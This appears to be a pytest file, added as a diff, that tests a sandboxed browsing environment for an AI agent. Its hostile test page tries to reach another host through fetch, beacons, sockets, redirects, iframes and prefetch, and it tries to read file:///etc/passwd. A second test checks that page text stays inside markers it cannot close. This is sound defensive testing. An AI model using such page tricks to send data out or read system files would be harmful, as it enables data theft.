@@ -1,0 +1,130 @@
+"""What a hostile page tries: to reach what is no part of the task, to read files, to speak as the user."""
+
+from __future__ import annotations
+
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+
+from engine.web.environment import WebEnvironment
+from engine.web.records import Assignment
+from engine.web.text import CLOSE, OPEN
+
+PAGE = """<title>Trap</title><h1>Trap</h1>
+<a href="/redirect">Redirect</a> <a href="http://OTHER/link">Link</a> <a href="file:///etc/passwd">File</a>
+<a href="http://OTHER/new" target="_blank">New tab</a> <a href="/frame">Frame</a> <a href="/refresh">Refresh</a>
+<form action="http://OTHER/form" method="post"><input name="a" value="b"><button>Post</button></form>
+<form action="/bounce" method="post"><button>Bounce</button></form>
+<button
+  onclick="later('fetch', () => fetch('http://OTHER/fetch', {method: 'POST', mode: 'no-cors'}))">fetch</button>
+<button onclick="later('hop', () => fetch('/redirect', {mode: 'no-cors'}))">hop</button>
+<button onclick="navigator.sendBeacon('http://OTHER/beacon', 'x')">beacon</button>
+<button onclick="new WebSocket('ws://OTHER/socket')">socket</button>
+<button onclick="new EventSource('http://OTHER/events')">events</button>
+<button onclick="window.open('http://OTHER/window')">window</button>
+<button onclick="navigator.serviceWorker.register('/worker.js')">worker</button>
+<button onclick="document.head.append(Object.assign(document.createElement('link'),
+  {rel: 'prefetch', href: 'http://OTHER/prefetch'}), Object.assign(document.createElement('link'),
+  {rel: 'preconnect', href: 'http://OTHER/'}))">prefetch</button>
+<script>new Image().src = 'http://OTHER/image';
+function later(name, f) { f().catch(() => 0).finally(() => { document.title = name + ' tried'; }); }</script>"""
+ACTIONS = ("Post", "Bounce", "fetch", "hop", "beacon", "socket", "events", "window", "worker", "prefetch")
+LINKS = ("Redirect", "Link", "File", "New tab", "Frame", "Refresh")
+
+
+class Handler(BaseHTTPRequestHandler):
+    def do_GET(self):
+        other = self.server.other
+        if other is None:  # this is the other one
+            self.server.asked.append(self.path)
+            self.answer("reached")
+        elif self.path in ("/redirect", "/bounce"):
+            self.send_response(302 if self.command == "GET" else 307)
+            self.send_header("Location", f"http://{other}{self.path}")
+            self.end_headers()
+        elif self.path == "/frame":
+            self.answer(f"<title>F</title><iframe src='http://{other}/iframe'></iframe>"
+                        "<iframe src='file:///etc/passwd'></iframe><iframe src='/redirect'></iframe>")  # fmt: skip
+        elif self.path == "/refresh":
+            self.answer(f"<title>R</title><meta http-equiv=refresh content='0;url=http://{other}/refreshed'>")
+        else:
+            self.answer(PAGE.replace("OTHER", other))
+
+    do_POST = do_GET
+
+    def answer(self, text):
+        data = text.encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.send_header("Content-Length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+
+    def log_message(self, *_):
+        pass
+
+
+@pytest.fixture(scope="module")
+def servers():
+    """The task's server, and another one that counts what reaches it, on another port of the same host."""
+    made = [ThreadingHTTPServer(("127.0.0.1", 0), Handler) for _ in range(2)]
+    mine, other = made
+    mine.other, other.other, other.asked = f"127.0.0.1:{other.server_address[1]}", None, []
+    for server in made:
+        server.daemon_threads = True
+        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
+    yield mine, other
+    for server in made:
+        server.shutdown()
+        server.server_close()
+
+
+def test_nothing_but_the_tasks_host_and_port_is_reached_whatever_a_page_tries(browser_path, servers):
+    mine, other = servers
+    url = f"http://127.0.0.1:{mine.server_address[1]}"
+    env = WebEnvironment(
+        Assignment("t", "test", "x", (f"{url}/",), {"shop": url}), browser_path, scope="web/t"
+    )
+    try:
+        tries = [f"click(<link[{name}]>)" for name in LINKS] + [
+            f"click(<button[{name}]>)" for name in ACTIONS
+        ]
+        tries += [f"goto('http://{mine.other}/typed')", "goto('view-source:file:///etc/passwd')", "goto('file:///etc/passwd')",
+                  "goto('chrome://settings')", "goto('javascript:fetch(1)')"]  # fmt: skip
+        for action in tries:
+            first = env.reset(1)
+            assert first.place == "shop"
+            seen = env.step(action)
+            after = env.step("noop()")
+            shown = seen.description + after.description
+            assert "root:" not in shown, action
+            assert "reached" not in shown, action
+        assert other.asked == []
+        # The other server does answer those who may ask.
+        open_to = WebEnvironment(
+            Assignment("t", "test", "x", (f"{url}/",), {"shop": url}, hosts=(mine.other,)),
+            browser_path,
+            scope="web/t",
+        )
+        open_to.reset(1)
+        assert "reached" in open_to.step("click(<link[Redirect]>)").description
+        open_to.close()
+        assert "/redirect" in other.asked
+    finally:
+        env.close()
+
+
+def test_what_a_page_says_stands_between_marks_and_cannot_end_them(browser_path, servers):
+    mine, _ = servers
+    url = f"http://127.0.0.1:{mine.server_address[1]}"
+    env = WebEnvironment(
+        Assignment("t", "test", "x", (f"{url}/",), {"shop": url}), browser_path, scope="web/t"
+    )
+    try:
+        text = env.reset(1).description
+        assert (text.count(OPEN), text.count(CLOSE)) == (1, 1)
+        assert text.index(OPEN) < text.index("Trap") < text.index(CLOSE)
+    finally:
+        env.close()
